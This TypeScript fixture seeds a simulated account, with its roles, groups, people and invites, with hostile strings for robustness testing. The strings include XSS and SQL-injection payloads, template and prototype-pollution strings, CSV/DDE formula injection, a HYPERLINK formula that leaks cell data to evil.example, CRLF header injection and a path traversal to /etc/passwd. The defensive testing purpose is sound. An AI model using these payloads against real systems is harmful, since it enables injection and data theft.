import { scopeLevel, type Scope } from '#src/domain/scope.ts'
import { assign, join, userPrincipal } from '#src/sim/model/membership.ts'
import { defaultResourceGroupOf } from '#src/sim/model/scopes.ts'
import type { World } from '#src/sim/model/world.ts'
import { account, addOrganization, addPersonas, addProject, at, createBaseWorld, DAY, plainPerson } from './basic.ts'
import { addGroup } from './structure.ts'

/** Texts that break screens, files and programs which trust them. */
const hostileTexts: readonly string[] = [
  '<script>globalThis.pwned = true</script>',
  '<img src=x onerror="globalThis.pwned = true">',
  '"><svg onload=globalThis.pwned=1>',
  "'; DROP TABLE people; --",
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '${globalThis.pwned = 1}',
  'javascript:globalThis.pwned=1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "+1+cmd|'/C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '__proto__',
  'constructor',
  'toString',
  '{"status":"ERROR","code":"INVALID_TOKEN"}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '\u202Egnp.exe\u202C',
  '\u2066Ana\u2069\u200B\u200D\uFEFF',
  'Z̸͚̯͇a̵̗͝l̴̰̿g̷̨̋ơ̴̱',
  '👩🏽‍💻🏳️‍🌈 Ada 🧑‍🧑‍🧒',
  '🇳🇴'.repeat(40),
  'محمد‏ (admin)‎ <root>',
  'ﷺ'.repeat(20),
  'L'.repeat(1000),
  'Wide 寬 '.repeat(150),
  'a\nb\r\nc\u2028d\u0000e',
  'quote " apostrophe \' backtick ` backslash \\',
  'comma, semicolon; pipe| tab\tend',
  ' leading and trailing ',
  'İstanbul ı ſ ß ﬁ',
  '%00%0d%0aSet-Cookie:%20a=b',
  '#src/sim/../../../etc/passwd',
  'Mr. (.*)+$ [a-z] \\d {2} ^|?',
  '\uD83D lone surrogate',
]

/** Valid but unusual addresses. */
const hostileAddresses: readonly string[] = [
  '"<script>globalThis.pwned=1</script>"@example.com',
  "o'hara+tag@example.com",
  '=cmd|calc@example.com',
  '__proto__@example.com',
  'constructor@example.com',
  'пользователь@пример.example',
  'xn--80ak6aa92e@xn--e1afmkfd.example',
  'аpple@example.com',
  `${'long-'.repeat(40)}address@example.com`,
  '{"a":1}@example.com',
]

function addNames(world: World, scope: Scope): void {
  hostileTexts.forEach((text, place) => {
    const number = `${scopeLevel(scope)}_${place}`
    if (place % 3 === 0)
      world.roles.push({
        identifier: `hostile_role_${number}`,
        name: text,
        description: text,
        permissions: ['core_user_view', text],
        allowedScopeLevels: [scopeLevel(scope)],
        scope,
        internal: false,
        hidden: false,
        createdAt: world.seededAt,
        lastModifiedAt: world.seededAt - place * DAY,
      })
    if (place % 5 === 0) {
      world.resourceGroups.push({
        identifier: `hostile_resources_${number}`,
        name: text,
        description: text,
        allowedScopeLevels: [scopeLevel(scope)],
        scope,
        included: [{ filter: 'EXCLUDING_CHILD_SCOPES', scope }],
        resources: undefined,
        createdAt: world.seededAt,
        lastModifiedAt: world.seededAt - place * DAY,
      })
      addGroup(world, scope, `hostile_group_${number}`, text, text)
    }
  })
}

/** The seed `hostile`: a small account in which every name is an attack or malformed. */
export function hostileSeed(now: () => number): World {
  const world = createBaseWorld('hostile', now)
  addOrganization(world, 'default', '<b>default</b>', '<i>built in</i>', true)
  addOrganization(world, 'storefront', '\u202EtnorferotS', hostileTexts[1] ?? '')
  addProject(world, 'storefront', 'checkout', '{{7*7}} & <Checkout>', hostileTexts[7] ?? '')
  addPersonas(world)
  const scopes = [account, at('storefront'), at('storefront', 'checkout')]
  for (const scope of scopes) addNames(world, scope)

  hostileTexts.forEach((text, place) => {
    const uuid = world.random.userId()
    const email = hostileAddresses[place] ?? `person${place}@example.com`
    const differences = { locked: place % 7 === 0, externallyManaged: place % 4 === 0, twoFactor: place % 2 === 0 }
    world.people.put(plainPerson(world, uuid, email, text, differences))
    join(world, place % 2 === 0 ? at('storefront', 'checkout') : account, uuid)
    assign(
      world,
      account,
      userPrincipal(uuid),
      `hostile_role_account_${place - (place % 3)}`,
      defaultResourceGroupOf.account,
    )
    for (const group of world.groups) if (!group.harnessManaged && place % 3 === 0) group.users.add(uuid)
  })
  hostileAddresses.slice(1, 8).forEach((address, place) => {
    const id = world.random.hex(24)
    world.invites.set(id, {
      id,
      email: `invited-${place}-${address}`,
      scope: account,
      roleBindings: [{ roleIdentifier: 'hostile_role_account_0' }],
      userGroups: ['hostile_group_account_0'],
      approved: false,
      createdAt: world.seededAt - place * DAY,
      validUntil: world.seededAt + 20 * DAY,
    })
  })
  return world
}
